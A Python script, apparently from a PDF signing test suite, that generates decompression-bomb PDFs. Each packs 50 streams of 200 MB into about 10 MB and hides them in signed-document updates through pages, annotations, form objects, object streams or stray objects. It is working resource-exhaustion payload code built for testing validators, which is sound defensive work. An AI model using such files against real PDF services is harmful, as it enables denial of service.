#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""
Small PDFs that are large inside: 50 streams of 200 MB each, 10 MB packed.

	make_bomb.py base OUT		a small page, nothing large
	make_bomb.py contents OUT	a page that is painted by all of them
	make_bomb.py KIND SIGNED OUT	an update of what was signed of those:
		box		an annotation over what is painted
		page		the page is painted by them
		looks		annotations, each looking like one of them
		forms		one annotation that paints them all
		objects		object streams, one object in use from each
		stray		nothing refers to them
"""
import os
import re
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(sys.argv[0]), '../interop'))
from attack_pdf import Pdf, obj  # noqa: E402

STREAMS, MEGABYTES = 50, 200


def blank():
    """What follows the first bytes, the same in all.  Whoever comes to the
    checksum at the end, which is not that of the whole, has unpacked too
    much."""
    packer = zlib.compressobj(9)
    block = b' ' * (1 << 20)
    first = packer.compress(b'') + packer.flush(zlib.Z_FULL_FLUSH)
    made = first + b''.join(packer.compress(block) for _ in range(MEGABYTES))
    return (made + packer.flush())[len(first):]


BLANK = blank()


def packed(first):
    packer = zlib.compressobj(9)
    start = packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH)
    return (start + BLANK).decode('latin1')


def stream(data, extra=''):
    return '<</Filter/FlateDecode%s/Length %d>>\nstream\n%s\nendstream' % (
        extra, len(data), data)


def refs(first):
    return ' '.join('%d 0 R' % (first + i) for i in range(STREAMS))


def base(large):
    contents, more = '4 0 R', {}
    more[4] = '<</Length 22>>\nstream\n0 0 100 100 re f     \nendstream'
    if large:
        data = stream(packed(b'0 0 100 100 re f\n'))
        contents = '[%s]' % refs(20)
        more = {20 + i: data for i in range(STREAMS)}
    return Pdf().save({
        1: '<</Type/Catalog/Pages 2 0 R>>',
        2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<<>>'
           '/Contents %s>>' % contents, **more}).data


def note(look, rect='200 200 250 250'):
    return ('<</Type/Annot/Subtype/Stamp/F 4/Rect[%s]/P 3 0 R'
            '/AP<</N %s>>>>' % (rect, look))


def update(kind, data):
    size = max(map(int, re.findall(rb'/Size (\d+)', data)))
    page = obj(data, 3)
    form = '/Type/XObject/Subtype/Form/BBox[0 0 50 50]'
    more, notes = {}, ''
    if kind == 'page':
        page = page.replace('/Contents 4 0 R', '/Contents[%s]' % refs(size))
        more = {size + i: stream(packed(b'')) for i in range(STREAMS)}
    if kind == 'box':
        paint = '1 g 0 0 50 50 re f'
        more[size] = note('%d 0 R' % (size + 1), '10 10 60 60')
        more[size + 1] = '<<%s/Length %d>>\nstream\n%s\nendstream' % (
            form, len(paint), paint)
        notes = '%d 0 R' % size
    if kind == 'looks':
        data_of = stream(packed(b'0 0 1 1 re f\n'), form)
        for i in range(STREAMS):
            more[size + i] = note('%d 0 R' % (size + STREAMS + i))
            more[size + STREAMS + i] = data_of
        notes = refs(size)
    if kind == 'forms':
        data_of = stream(packed(b'0 0 1 1 re f\n'), form)
        names = ''.join('/X%d %d 0 R' % (i, size + 2 + i)
                        for i in range(STREAMS))
        body = ' '.join('/X%d Do' % i for i in range(STREAMS))
        more = {size + 2 + i: data_of for i in range(STREAMS)}
        more[size] = note('%d 0 R' % (size + 1))
        more[size + 1] = ('<<%s/Resources<</XObject<<%s>>>>/Length %d>>\n'
                          'stream\n%s\nendstream' % (form, names, len(body),
                                                     body))
        notes = '%d 0 R' % size
    if kind == 'objects':
        for i in range(STREAMS):
            inside = b'%d 0 ' % (size + STREAMS + i)
            more[size + i] = stream(packed(inside + b'<</A 1>>'),
                                    '/Type/ObjStm/N 1/First %d' % len(inside))
    if kind == 'stray':
        more = {size + i: stream(packed(b'')) for i in range(STREAMS)}
    listed = re.search(r'/Annots (\d+) 0 R', page)
    if notes:
        page = page.replace(listed[0], '/Annots[%s %s]' % (
            obj(data, int(listed[1])).strip('[] '), notes))
    if kind != 'stray':
        more[3] = page
    if kind == 'objects':
        return in_streams(data, more, size)
    return Pdf(data).save(more).data


def in_streams(data, more, size):
    """An update whose table is a stream: only that can name objects in
    object streams."""
    prev = int(re.findall(rb'startxref\s+(\d+)', data)[-1])
    out, at = bytearray(data), {}
    for number, body in more.items():
        at[number] = len(out)
        out += b'%d 0 obj\n%s\nendobj\n' % (number, body.encode('latin1'))
    table, number = len(out), size + 2 * STREAMS
    rows = b''.join(b'\1%s\0' % at[size + i].to_bytes(4, 'big')
                    for i in range(STREAMS))
    rows += b''.join(b'\2%s\0' % (size + i).to_bytes(4, 'big')
                     for i in range(STREAMS))
    rows += b'\1%s\0\1%s\0' % (table.to_bytes(4, 'big'),
                               at[3].to_bytes(4, 'big'))
    out += (b'%d 0 obj\n<</Type/XRef/W[1 4 1]/Size %d/Index[%d %d 3 1]/Root 1 '
            b'0 R/Prev %d/Length %d>>\nstream\n%s\nendstream\nendobj\n'
            b'startxref\n%d\n%%%%EOF\n' % (
                number, number + 1, size, 2 * STREAMS + 1, prev, len(rows),
                rows, table))
    return bytes(out)


def main():
    if sys.argv[1] in ('base', 'contents'):
        made = base(sys.argv[1] == 'contents')
    else:
        with open(sys.argv[2], 'rb') as f:
            made = update(sys.argv[1], f.read())
    with open(sys.argv[-1], 'wb') as f:
        f.write(made)


main()
